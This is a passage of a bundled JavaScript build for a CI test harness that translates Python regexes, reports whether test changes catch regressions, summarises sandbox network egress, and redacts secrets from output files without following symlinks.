        this.close(start);
        this.openGroups.delete(number);
        return `(?<${jsName}>${inner})`;
    }
    close(start) {
        if (this.peek() !== ')')
            this.fail('missing ), unterminated subpattern', start);
        this.pos++;
    }
    /** `(?flags-flags:…)`: m, s, x, a are tracked here; i is emulated or the JS flag. */
    scoped(start, on, off) {
        const saved = { ...this.flags };
        const savedFold = this.foldCase;
        for (const f of on)
            this.setFlag(f, true, start);
        for (const f of off)
            this.setFlag(f, false, start);
        if (on.includes('i') && !this.globalI)
            this.foldCase = true;
        if (off.includes('i')) {
            if (this.globalI)
                this.fail('(?-i:…) inside a case-insensitive pattern is not supported', start);
            this.foldCase = false;
        }
        const inner = this.alternation();
        this.close(start);
        this.flags = saved;
        this.foldCase = savedFold;
        return `(?:${inner})`;
    }
    escape(start) {
        const e = this.src[this.pos++];
        if (e === undefined)
            this.fail('bad escape (end of pattern)', start);
        const w = this.flags.a ? ASCII_WORD : UNI_WORD;
        switch (e) {
            case 'A':
                return '(?<![\\s\\S])';
            case 'Z':
            case 'z':
                return '(?![\\s\\S])';
            case 'b':
                return `(?:(?<=[${w}])(?![${w}])|(?<![${w}])(?=[${w}]))`;
            case 'B':
                return `(?:(?<=[${w}])(?=[${w}])|(?<![${w}])(?![${w}]))`;
        }
        const cls = CLASS_ESCAPES.get(e);
        if (cls)
            return cls(this.flags.a);
        if (/[1-9]/.test(e)) {
            // \1…\99 is a back-reference unless it reads as a three-digit octal escape.
            const oct = /^[0-7]{2}/.exec(this.src.slice(this.pos));
            if (/[0-7]/.test(e) && oct) {
                this.pos += 2;
                return this.charLiteral(parseInt(e + oct[0], 8), start);
            }
            let digits = e;
            if (/\d/.test(this.peek()))
                digits += this.src[this.pos++];
            const n = Number(digits);
            if (n > this.groups.length)
                this.fail(`invalid group reference ${n}`, start);
            if (this.openGroups.has(n))
                this.fail('cannot refer to an open group', start);
            return `\\k<${this.groups[n - 1]}>`;
        }
        const code = this.charEscape(e, start, false);
        return this.literal(String.fromCodePoint(code));
    }
    charLiteral(code, start) {
        if (code > 0o377)
            this.fail('octal escape value outside of range 0-0o377', start);
        return this.literal(String.fromCodePoint(code));
    }
    /** Escapes that stand for one character; `inClass` makes \b a backspace. */
    charEscape(e, start, inClass) {
        const simple = { a: 7, f: 12, n: 10, r: 13, t: 9, v: 11 };
        if (e in simple)
            return simple[e];
        if (e === 'b' && inClass)
            return 8;
        if (e === '0' || (inClass && /[0-7]/.test(e))) {
            const m = /^[0-7]{0,2}/.exec(this.src.slice(this.pos))?.[0] ?? '';
            this.pos += m.length;
            const v = parseInt(e + m, 8);
            if (v > 0o377)
                this.fail('octal escape value outside of range 0-0o377', start);
            return v;
        }
        const hex = { x: 2, u: 4, U: 8 }[e];
        if (hex) {
            const digits = this.src.slice(this.pos, this.pos + hex);
            if (!new RegExp(`^[0-9a-fA-F]{${hex}}$`).test(digits))
                this.fail(`incomplete escape \\${e}${digits}`, start);
            this.pos += hex;
            const v = parseInt(digits, 16);
            if (v > 0x10ffff)
                this.fail(`bad escape \\${e}${digits}`, start);
            return v;
        }
        if (e === 'N')
            this.fail('named Unicode escapes \\N{…} are not supported; write the character itself', start);
        if (/[GKhHRX]/.test(e))
            this.fail(`bad escape \\${e} (Python has no \\${e}; it is PCRE syntax)`, start);
        if (/[A-Za-z0-9]/.test(e))
            this.fail(`bad escape \\${e}`, start);
        return e.codePointAt(0);
    }
    charClass(start) {
        let negated = false;
        if (this.peek() === '^') {
            negated = true;
            this.pos++;
        }
        let out = '';
        let first = true;
        for (;;) {
            const c = this.peek();
            if (c === '')
                this.fail('unterminated character set', start);
            if (c === ']' && !first) {
                this.pos++;
                break;
            }
            first = false;
            const itemStart = this.pos;
            const lo = this.classItem();
            if (this.peek() === '-' &&
                this.peek(1) !== ']' &&
                this.peek(1) !== '' &&
                typeof lo === 'number') {
                this.pos++;
                const hi = this.classItem();
                if (typeof hi !== 'number')
                    this.fail('bad character range', itemStart);
                if (hi < lo)
                    this.fail('bad character range', itemStart);
                out += `${escapeInClass(String.fromCodePoint(lo))}-${escapeInClass(String.fromCodePoint(hi))}`;
                if (this.foldCase)
                    out += foldRange(lo, hi);
                continue;
            }
            if (typeof lo === 'number') {
                const ch = String.fromCodePoint(lo);
                out += escapeInClass(ch);
                if (this.foldCase && ch.toLowerCase() !== ch.toUpperCase()) {
                    out += escapeInClass(ch === ch.toLowerCase() ? ch.toUpperCase() : ch.toLowerCase());
                }
            }
            else
                out += lo.set;
        }
        return `[${negated ? '^' : ''}${out}]`;
    }
    /** A character (its code point) or a class escape like \d (its class body). */
    classItem() {
        const start = this.pos;
        const c = this.src.codePointAt(this.pos);
        this.pos += c > 0xffff ? 2 : 1;
        if (c !== 0x5c)
            return c;
        const e = this.src[this.pos++];
        if (e === undefined)
            this.fail('unterminated character set', start);
        switch (e) {
            case 'd':
                return { set: this.flags.a ? '0-9' : '\\p{Nd}' };
            case 'D':
                return { set: this.flags.a ? '\\x00-/:-\\u{10ffff}' : '\\P{Nd}' };
            case 'w':
                return { set: this.flags.a ? ASCII_WORD : UNI_WORD };
            case 's':
                return { set: this.flags.a ? '\\t-\\r ' : SPACE_CHARS };
            case 'W':
            case 'S':
                return this.fail(`\\${e} inside a character class is not supported; use a negated class [^…]`, start);
        }
        return this.charEscape(e, start, true);
    }
}
function escapeInClass(ch) {
    if (CLASS_SYNTAX.has(ch))
        return `\\${ch}`;
    if (ch === '\n')
        return '\\n';
    return ch;
}
/** The other-case range for a range of letters, for emulated (?i:…). */
function foldRange(lo, hi) {
    const a = String.fromCodePoint(lo);
    const b = String.fromCodePoint(hi);
    if (/[a-z]/.test(a) && /[a-z]/.test(b))
        return `${a.toUpperCase()}-${b.toUpperCase()}`;
    if (/[A-Z]/.test(a) && /[A-Z]/.test(b))
        return `${a.toLowerCase()}-${b.toLowerCase()}`;
    return '';
}


/***/ }),

/***/ 66861:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Z: () => (/* binding */ shellQuote)
/* harmony export */ });
// Single-quoting for /bin/sh: the one way the harness puts a path or a word into a script line.
/** `s` as one /bin/sh word: single-quoted, each `'` written as `'\''`. */
function shellQuote(s) {
    return `'${s.replace(/'/g, `'\\''`)}'`;
}


/***/ }),

/***/ 50181:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   FK: () => (/* binding */ notCaughtMessage),
/* harmony export */   GE: () => (/* binding */ verdictAnnotations),
/* harmony export */   Od: () => (/* binding */ compareOutputs),
/* harmony export */   Z4: () => (/* binding */ compareHtml)
/* harmony export */ });
/* unused harmony exports VERDICT_ICON, MAX_LISTED, compareMarkdown, gateAnnotations */
/* harmony import */ var _evidence_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(57180);

const VERDICT_ICON = {
    'catches-change': '✅',
    'does-not-catch': '🟡',
    regression: '❌',
    error: '⚠️',
    untrusted: '🚫'
};
/** Names shown per list; the rest are counted ("… and 12 more"). results.json has them all. */
const MAX_LISTED = 20;
const WORST_FIRST = [
    'error',
    'untrusted',
    'regression',
    'does-not-catch',
    'catches-change'
];
const LISTS = [
    ['failToPass', 'fail → pass'],
    ['passToFail', 'pass → fail'],
    ['failToFail', 'fail → fail'],
    ['onlyHead', 'only on head (not run on base)'],
    ['onlyBase', 'only on base'],
    ['skipped', 'skipped on head'],
    ['flaky', 'flaky (outcome changed between attempts; never fail → pass)']
];
const steps = (r) => r.agents.flatMap((a) => a.commands);
/** The action's `verdict` (worst over all compare steps, '' when none) and `fail-to-pass`. */
function compareOutputs(r) {
    const verdicts = new Set(steps(r).flatMap((s) => (s.compare ? [s.compare.verdict] : [])));
    const verdict = WORST_FIRST.find((v) => verdicts.has(v)) ?? '';
    const names = new Set(steps(r).flatMap((s) => s.compare?.transitions.failToPass ?? []));
    return { verdict, failToPass: JSON.stringify([...names]) };
}
function block(s, e, item) {
    const lines = [];
    const c = s.compare;
    if (c) {
        const revs = c.base && c.head
            ? ` (base ${e.code(c.base.slice(0, 12))}${c.baseRef && !c.base.startsWith(c.baseRef) ? ` = ${e.text(c.baseRef, 80)}` : ''} → head ${e.code(c.head.slice(0, 12))})`
            : '';
        lines.push(`${VERDICT_ICON[c.verdict]} step ${s.index + 1} compare: ${c.verdict}${revs}` +
            (c.reason ? ` — ${e.text(c.reason, 300)}` : ''));
        for (const [key, label] of LISTS) {
            const names = c.transitions[key] ?? [];
            if (names.length)
                lines.push(item(`${label} (${names.length}): ${listed(names, e)}`));
        }
        // Pass-to-pass is only counted here; results.json has the names.
        if (c.transitions.passToPass.length)
            lines.push(item(`pass → pass: ${c.transitions.passToPass.length}`));
        for (const t of c.tamper ?? []) {
            lines.push(item(`${t.allowed ? 'allowed by compare.allow' : 'tampering'} (${e.text(t.kind, 40)}): ${e.code(t.path)} — ${e.text(t.detail, 200)}`));
        }
        if (c.dirty?.length) {
            lines.push(item(`head is the work tree, not the commit: ${c.dirty.length} uncommitted or untracked file(s): ${listed(c.dirty, e)}`));
        }
        if (c.rerun) {
            lines.push(item(`fail-to-pass re-run alone, each side in a fresh sandbox: base ${e.text(c.rerun.base, 200)}; head ${e.text(c.rerun.head, 200)}`));
        }
        if (c.baseOwn) {
            const b = c.baseOwn;
            lines.push(item(`base's own tests (base revision as is, fresh sandbox): ${b.collected ?? '-'} collected, ${b.checkedSkipped.length} skipped on head run there` +
                (b.problem ? `; not checked: ${e.text(b.problem, 200)}` : '')));
        }
        if (c.evidence)
            lines.push(...(0,_evidence_js__WEBPACK_IMPORTED_MODULE_0__/* .evidenceLines */ .p)(c.evidence, e).map(item));
        if (c.order) {
            lines.push(item(`sides: ${c.order.join(' then ')}, each in a fresh sandbox, ${c.attemptsPerSide ?? 1} attempt(s) each` +
                (c.collected
                    ? `; pytest --collect-only: base ${c.collected.base ?? '-'}, head ${c.collected.head ?? '-'} ids`
                    : '')));
        }
    }
    if (s.flaky?.length) {
        lines.push(`🔁 step ${s.index + 1}: flaky (failed, then passed on a retry; ${s.attempts?.length ?? 1} attempts): ${listed(s.flaky, e)}`);
    }
    return lines;
}
function listed(names, e) {
    const shown = names
        .slice(0, MAX_LISTED)
        .map((n) => e.code(n))
        .join(', ');
    return names.length > MAX_LISTED ? `${shown} … and ${names.length - MAX_LISTED} more` : shown;
}
/** Markdown lines (summary.md) for a step's compare verdict and flaky tests; '' when none. */
function compareMarkdown(s, escape) {
    const e = { text: escape, code: (t) => `<code>${escape(t, 200)}</code>` };
    const lines = block(s, e, (l) => `  - ${l}`);
    return lines.length
        ? lines.map((l) => (l.startsWith('  - ') ? l : `- ${l}`)).join('\n') + '\n'
        : '';
}
/** The same as HTML (job summary). */
function compareHtml(s, escapeHtml) {
    const clip = (t, max) => (t.length <= max ? t : t.slice(0, max - 1) + '…');
    const e = {
        text: (t, max) => escapeHtml(clip(t, max)),
        code: (t) => `<code>${escapeHtml(clip(t, 200))}</code>`
    };
    const lines = block(s, e, (l) => `<li>${l}</li>`);
    if (!lines.length)
        return '';
    const out = [];
    let inList = false;
    for (const l of lines) {
        const isItem = l.startsWith('<li>');
        if (isItem && !inList)
            out.push('<ul>');
        if (!isItem && inList)
            out.push('</ul>');
        inList = isItem;
        out.push(isItem ? l : `<p>${l}</p>`);
    }
    if (inList)
        out.push('</ul>');
    return out.join('\n') + '\n';
}
/** Verdicts a reviewer must hear about whatever fail-on says. */
const ANNOUNCED = ['does-not-catch', 'untrusted', 'regression'];
/** One annotation per compare step whose verdict is does-not-catch, untrusted or regression, and one per compare.require not met. */
function verdictAnnotations(r) {
    return [...verdictOnly(r), ...gateAnnotations(r)];
}
function verdictOnly(r) {
    return r.agents.flatMap((a) => a.commands.flatMap((s) => s.compare && ANNOUNCED.includes(s.compare.verdict)
        ? [
            {
                title: `massgen-exec: ${a.id} step ${s.index + 1} compare: ${s.compare.verdict}`,
                message: `${s.name ?? s.command.split('\n')[0].slice(0, 100)}: ${s.compare.verdict}${s.compare.reason ? ` — ${s.compare.reason.slice(0, 500)}` : ''}`
            }
        ]
        : []));
}
/** One annotation per compare step whose compare.require was not met: the uncovered lines and surviving mutants. */
function gateAnnotations(r) {
    return r.agents.flatMap((a) => a.commands.flatMap((s) => {
        const g = s.compare?.evidence?.gate;
        return g && !g.passed
            ? [
                {
                    title: `massgen-exec: ${a.id} step ${s.index + 1} compare.require not met`,
                    message: g.failures.join('\n').slice(0, 4000)
                }
            ]
            : [];
    }));
}
/** fail-on not-caught: why the run fails (some compare step did not say catches-change, or missed its compare.require), or undefined. */
function notCaughtMessage(r) {
    const compared = steps(r).filter((s) => s.compare);
    if (!compared.length)
        return 'massgen-exec: fail-on not-caught, but no compare step ran';
    const gated = (s) => s.compare.evidence?.gate?.passed === false;
    const bad = compared.filter((s) => s.compare.verdict !== 'catches-change' || gated(s));
    if (!bad.length)
        return undefined;
    const list = bad
        .map((s) => `step ${s.index + 1}: ${s.compare.verdict}${gated(s) ? ' (compare.require not met)' : ''}`)
        .join(', ');
    return `massgen-exec: not every compare step catches the change (${list})`;
}


/***/ }),

/***/ 77079:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   F$: () => (/* binding */ egressHtml),
/* harmony export */   um: () => (/* binding */ egressAnnotations)
/* harmony export */ });
/* unused harmony exports MAX_EGRESS_ROWS, MAX_EGRESS_ANNOTATIONS, egressStepLabel, notAllowed, destination, egressLogLines, egressMarkdown */
/** Rows per agent in the summaries; results.json has them all. */
const MAX_EGRESS_ROWS = 50;
/** Annotations per run (GitHub shows ten of a kind per step anyway). */
const MAX_EGRESS_ANNOTATIONS = 20;
/** `step 2 (deps)`; the harness's pseudo-steps (index -1) by name. */
function egressStepLabel(s) {
    if (s.index < 0)
        return s.name ?? 'outside any step';
    return `step ${s.index + 1}${s.name ? ` (${s.name})` : ''}`;
}
/** Every destination that did not go out (refused, or did not resolve), in step order. */
function notAllowed(report) {
    if (!report)
        return [];
    return report.steps.flatMap((s) => s.destinations
        .filter((d) => d.outcome !== 'allowed')
        .map((d) => ({ ...d, step: egressStepLabel(s), stepIndex: s.index })));
}
function destination(d) {
    return `${d.host.includes(':') ? `[${d.host}]` : d.host}:${d.port}`;
}
/** Entries safe to print verbatim in a YAML block (anything else was not a host name). */
function proposable(report) {
    const all = report.proposedAllowedDomains ?? [];
    const safe = all.filter((e) => /^[a-z0-9._:[\]*-]{1,260}$/i.test(e));
    return { safe, dropped: all.length - safe.length };
}
function headline(report) {
    const t = report.totals;
    return `egress (${report.mode}): ${t.allowed} allowed, ${t.refused} refused, ${t.failed} failed connection(s)`;
}
/** The run log's lines for one agent at its end. */
function egressLogLines(agentId, report) {
    const lines = [`[${agentId}] ${headline(report)}`];
    const refused = notAllowed(report);
    for (const d of refused.slice(0, MAX_EGRESS_ROWS))
        lines.push(`[${agentId}]   ${d.outcome} ${destination(d)} in ${d.step}: ${d.rule}${d.count > 1 ? ` (${d.count}×)` : ''}`);
    if (refused.length > MAX_EGRESS_ROWS)
        lines.push(`[${agentId}]   … and ${refused.length - MAX_EGRESS_ROWS} more in results.json`);
    if (report.mode === 'audit') {
        const { safe } = proposable(report);
        lines.push(`[${agentId}] egress audit: proposed command_line_egress.allowed_domains: ${JSON.stringify(safe)}`);
    }
    return lines;
}
function rows(a, e) {
    return notAllowed(a.egress)
        .slice(0, MAX_EGRESS_ROWS)
        .map((d) => [
        e.text(d.step, 80),
        e.text(destination(d), 200),
        d.outcome,
        e.text(d.rule, 80),
        String(d.count),
        d.firstAt.slice(11, 19)
    ]);
}
const HEAD = ['step', 'destination', 'outcome', 'rule', 'count', 'first (UTC)'];
/** summary.md: the agent's refused destinations and the audit proposal; '' without egress. */
function egressMarkdown(a, escape) {
    const report = a.egress;
    if (!report)
        return '';
    const lines = [`**${escape(headline(report), 200)}**`, ''];
    const body = rows(a, { text: escape });
    if (body.length) {
        lines.push(`| ${HEAD.join(' | ')} |`, `|${HEAD.map(() => '---').join('|')}|`);
        for (const r of body)
            lines.push(`| ${r.join(' | ')} |`);
        const more = notAllowed(report).length - body.length;
        if (more > 0)
            lines.push('', `… and ${more} more in results.json`);
        lines.push('');
    }
    if (report.mode === 'audit') {
        const { safe, dropped } = proposable(report);
        lines.push('Proposed list (audit mode let every name through; names that never resolved are left out):', '', '```yaml', 'command_line_egress:', `  allowed_domains: ${JSON.stringify(safe)}`, '```', '');
        if (dropped)
            lines.push(`(${dropped} entries that are not host names left out)`, '');
    }
    return lines.join('\n') + '\n';
}
/** The same as HTML for the job summary. */
function egressHtml(a, escapeHtml) {
    const report = a.egress;
    if (!report)
        return '';
    const clip = (t, max) => (t.length <= max ? t : t.slice(0, max - 1) + '…');
    const text = (t, max) => escapeHtml(clip(t, max));
    let html = `<p><b>${text(headline(report), 200)}</b></p>\n`;
    const body = rows(a, { text });
    if (body.length) {
        html +=
            `<table><thead><tr>${HEAD.map((h) => `<th>${h}</th>`).join('')}</tr></thead><tbody>\n` +
                body.map((r) => `<tr>${r.map((c) => `<td>${c}</td>`).join('')}</tr>`).join('\n') +
                '\n</tbody></table>\n';
        const more = notAllowed(report).length - body.length;
        if (more > 0)
            html += `<p>… and ${more} more in results.json</p>\n`;
    }
    if (report.mode === 'audit') {
        const { safe } = proposable(report);
        html +=
            '<p>Proposed list (audit mode let every name through; names that never resolved are left out):</p>\n' +
                `<pre>command_line_egress:\n  allowed_domains: ${escapeHtml(JSON.stringify(safe))}</pre>\n`;
    }
    return html;
}
/** One annotation per refused destination, naming the agent and the step (capped). */
function egressAnnotations(r) {
    const all = r.agents.flatMap((a) => notAllowed(a.egress)
        .filter((d) => d.outcome === 'refused')
        .map((d) => ({
        title: `massgen-exec: ${a.id} egress refused`,
        message: `${destination(d)} refused in ${d.step} (${d.rule}${d.count > 1 ? `, ${d.count}×` : ''})` +
            (d.reason ? ` — ${d.reason}` : '')
    })));
    if (all.length <= MAX_EGRESS_ANNOTATIONS)
        return all;
    return [
        ...all.slice(0, MAX_EGRESS_ANNOTATIONS),
        {
            title: 'massgen-exec: egress refused',
            message: `… and ${all.length - MAX_EGRESS_ANNOTATIONS} more refused destinations (see results.json)`
        }
    ];
}


/***/ }),

/***/ 57180:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Q: () => (/* binding */ evidenceBrief),
  p: () => (/* binding */ evidenceLines)
});

;// CONCATENATED MODULE: ./src/lib/line-list.ts
// Line numbers per file in words, runs folded: "src/a.py:3, 5-7; src/b.py:10" (gate failures and the
// evidence reports share it).
/** "src/a.py:3, 5-7; src/b.py:10" */
function lineList(files, max) {
    const parts = [];
    let shown = 0;
    let total = 0;
    for (const f of files) {
        total += f.lines.length;
        if (!f.lines.length || shown >= max)
            continue;
        const take = f.lines.slice(0, max - shown);
        shown += take.length;
        const runs = [];
        for (let i = 0; i < take.length;) {
            let j = i;
            while (j + 1 < take.length && take[j + 1] === take[j] + 1)
                j++;
            runs.push(i === j ? `${take[i]}` : `${take[i]}-${take[j]}`);
            i = j + 1;
        }
        parts.push(`${f.path}:${runs.join(', ')}`);
    }
    return parts.join('; ') + (total > shown ? ` … and ${total - shown} more` : '');
}

;// CONCATENATED MODULE: ./src/report/evidence.ts

const pct = (r) => (r === null ? 'n/a' : `${Math.round(r * 1000) / 10} %`);
/** Per-file lines shown; results.json has them all. */
const MAX_FILES = 20;
const MAX_SURVIVORS = 20;
function evidenceLines(ev, e) {
    const lines = [];
    const c = ev.coverage;
    if (c) {
        const f2p = c.failToPass ? `; by the fail-to-pass tests ${pct(c.failToPass.ratio)}` : '';
        lines.push(`changed-line coverage (${c.tool}, head suite): ${pct(c.suite.ratio)}${f2p}` +
            (c.problem ? ` — ${e.text(c.problem, 300)}` : ''));
        for (const f of c.suite.files.slice(0, MAX_FILES))
            lines.push(fileLine(f, e));
        if (c.suite.files.length > MAX_FILES)
            lines.push(`… and ${c.suite.files.length - MAX_FILES} more file(s)`);
        for (const n of c.notes ?? [])
            lines.push(`coverage note: ${e.text(n, 300)}`);
    }
    const m = ev.mutation;
    if (m) {
        lines.push(`mutation (${m.tool}): score ${pct(m.score)} — ${m.killed} killed, ${m.survived} survived, ${m.timeout} timeout (never counted as killed), ${m.error} error; ${m.found} found, ${m.skipped} not run` +
            (m.sampled ? `; ${e.text(m.sampled, 200)}` : '') +
            (m.problem ? ` — ${e.text(m.problem, 300)}` : ''));
        const survivors = m.mutants.filter((x) => x.outcome === 'survived');
        for (const x of survivors.slice(0, MAX_SURVIVORS))
            lines.push(`survived: ${e.code(`${x.path}:${x.line}`)} ${e.code(x.original)} → ${e.code(x.mutated)} (${e.text(x.operator, 40)})`);
        if (survivors.length > MAX_SURVIVORS)
            lines.push(`… and ${survivors.length - MAX_SURVIVORS} more survivor(s)`);
    }
    for (const n of ev.notes ?? [])
        lines.push(`evidence note: ${e.text(n, 300)}`);
    if (ev.problem)
        lines.push(`evidence: ${e.text(ev.problem, 300)}`);
    if (ev.gate) {
        lines.push(ev.gate.passed
            ? `compare.require met (${requireText(ev)})`
            : `❌ compare.require not met (${requireText(ev)}): ${ev.gate.failures.map((f) => e.text(f, 600)).join(' | ')}`);
    }
    return lines;
}
function requireText(ev) {
    const r = ev.require ?? {};
    return [
        r.changed_line_coverage !== undefined ? `changed_line_coverage ${r.changed_line_coverage}` : '',
        r.mutation_score !== undefined ? `mutation_score ${r.mutation_score}` : ''
    ]
        .filter(Boolean)
        .join(', ');
}
function fileLine(f, e) {
    const unc = f.uncovered.length
        ? `; uncovered: ${e.text(lineList([{ path: f.path, lines: f.uncovered }], 40).replace(`${f.path}:`, ''), 300)}`
        : '';
    return `${e.code(f.path)}: ${f.covered.length}/${f.changed.length} changed lines covered${unc}`;
}
/** For the one-line step summary: " · changed-line coverage 50 % · mutation score 90 % · require not met". */
function evidenceBrief(ev) {
    if (!ev)
        return '';
    const parts = [];
    if (ev.coverage)
        parts.push(`changed-line coverage ${pct(ev.coverage.suite.ratio)}`);
    if (ev.mutation)
        parts.push(`mutation score ${pct(ev.mutation.score)}`);
    if (ev.gate)
        parts.push(ev.gate.passed ? 'require met' : 'require NOT met');
    return parts.map((p) => ` · ${p}`).join('');
}


/***/ }),

/***/ 50561:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   lf: () => (/* binding */ openRegular),
/* harmony export */   us: () => (/* binding */ redactTree),
/* harmony export */   yT: () => (/* binding */ listRegularFiles)
/* harmony export */ });
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_2__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_3___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_3__);
// Files under the output directory, handled without ever following a symlink: a sandbox can plant
// links in what it writes, and neither a reader (artifact upload, the canary check) nor the
// redactor's rewrite may reach files outside the tree.




/** Strings longer than this cannot be held by V8; such files cannot be redacted in memory. */
const MAX_REDACT_BYTES = 256 * 1024 * 1024;
/** Regular files under rootDir, recursively, without following symlinks (absolute paths). */
async function listRegularFiles(rootDir) {
    const out = [];
    const walk = async (dir) => {
        let entries;
        try {
            entries = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.readdir)(dir, { withFileTypes: true });
        }
        catch {
            return; // unreadable directory: nothing in it can be uploaded either
        }
        entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
        for (const e of entries) {
            const path = (0,node_path__WEBPACK_IMPORTED_MODULE_3__.join)(dir, e.name);
            // Dirent types come from lstat semantics: a symlink is never isFile/isDirectory.
            if (e.isDirectory())
                await walk(path);
            else if (e.isFile())
                out.push(path);
        }
    };
    await walk(rootDir);
    return out;
}
/** Opens a regular file without following a final symlink or blocking on a planted FIFO. */
async function openRegular(path, flags) {
    const fh = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.open)(path, flags | node_fs__WEBPACK_IMPORTED_MODULE_1__.constants.O_NOFOLLOW | node_fs__WEBPACK_IMPORTED_MODULE_1__.constants.O_NONBLOCK);
    const st = await fh.stat();
    if (!st.isFile()) {
        await fh.close();
        return undefined;
    }
    return { fh, st };
}
/**
 * Applies `redact` to every regular file under rootDir (symlinks neither followed nor touched)
 * and rewrites the files whose content changed; returns how many changed. UTF-8 text is
 * redacted as text. Anything else is matched byte for byte (latin1) so that binary files are
 * left exactly as they are unless they contain a secret, which is then overwritten all the same.
 * Throws when a file cannot be redacted, so the caller never uploads an unredacted tree.
 */
async function redactTree(rootDir, redact) {
    const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
    let changed = await redactNames((0,node_path__WEBPACK_IMPORTED_MODULE_3__.resolve)(rootDir), redact);
    for (const file of await listRegularFiles((0,node_path__WEBPACK_IMPORTED_MODULE_3__.resolve)(rootDir))) {
        const opened = await openRegular(file, node_fs__WEBPACK_IMPORTED_MODULE_1__.constants.O_RDONLY);
        if (!opened)
            continue;
        let data;
        try {
            if (opened.st.size > MAX_REDACT_BYTES) {
                throw new Error(`${file} is too large to redact (${opened.st.size} bytes)`);
            }
            data = await opened.fh.readFile();
        }
        finally {
            await opened.fh.close();
        }
        let text;
        let encoding = 'utf8';
        try {
            text = utf8.decode(data);
        }
        catch {
            encoding = 'latin1';
            text = data.toString('latin1');
        }
        const redacted = redact(text);
        if (redacted === text)
            continue;
        await replaceFile(file, Buffer.from(redacted, encoding), opened.st.mode & 0o7777);
        changed++;
    }
    return changed;
}
/**
 * Renames every entry under dir (files, directories, symlinks: the link itself, never its target)
 * whose name holds a secret: an artifact's file names go up as they are. A redacted name that is
 * taken already gets a numbered suffix. Returns how many entries were renamed.
 */
async function redactNames(dir, redact) {
    let entries;
    try {
        entries = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.readdir)(dir, { withFileTypes: true });
    }
    catch {
        return 0; // unreadable directory: nothing in it can be uploaded either
    }
    const taken = new Set(entries.map((e) => e.name));
    let renamed = 0;
    for (const e of entries) {
        let name = e.name;
        const clean = redact(name);
        if (clean !== name) {
            name = clean;
            for (let i = 1; taken.has(name); i++)
                name = `${clean}-${i}`;
            taken.add(name);
            await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.rename)((0,node_path__WEBPACK_IMPORTED_MODULE_3__.join)(dir, e.name), (0,node_path__WEBPACK_IMPORTED_MODULE_3__.join)(dir, name));
            renamed++;
        }
        if (e.isDirectory())
            renamed += await redactNames((0,node_path__WEBPACK_IMPORTED_MODULE_3__.join)(dir, name), redact);
    }
    return renamed;
}
/**
 * Writes a sibling temp file and renames it over the original: works for read-only files we may
 * not open for writing, and a symlink swapped in meanwhile is replaced rather than written through.
 */
async function replaceFile(path, data, mode) {
    const tmp = (0,node_path__WEBPACK_IMPORTED_MODULE_3__.join)((0,node_path__WEBPACK_IMPORTED_MODULE_3__.dirname)(path), `.redact-${(0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.randomBytes)(6).toString('hex')}.tmp`);
    const fh = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.open)(tmp, node_fs__WEBPACK_IMPORTED_MODULE_1__.constants.O_WRONLY | node_fs__WEBPACK_IMPORTED_MODULE_1__.constants.O_CREAT | node_fs__WEBPACK_IMPORTED_MODULE_1__.constants.O_EXCL, 0o600);
    try {
        await fh.writeFile(data);
        await fh.chmod(mode);
    }
    finally {
        await fh.close();
    }
    try {
        await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.rename)(tmp, path);
    }
    catch (e) {
        await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_2__.unlink)(tmp).catch(() => { });
        throw e;
    }
}


/***/ }),

/***/ 5236:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   ZD: () => (/* binding */ escapeHtml),
/* harmony export */   qE: () => (/* binding */ renderJobSummary)
/* harmony export */ });
/* unused harmony export SUMMARY_LIMIT_BYTES */
/* harmony import */ var _compare_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(50181);
/* harmony import */ var _egress_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(77079);
/* harmony import */ var _markdown_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(54285);
/* harmony import */ var _trust_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(90044);
// The job summary (GITHUB_STEP_SUMMARY) as HTML: totals, a table per agent, the tail of each
// failed step's output. Every agent-controlled string is HTML-escaped, and the page is kept
// under GitHub's 1 MiB limit by shortening output tails first, then dropping them.




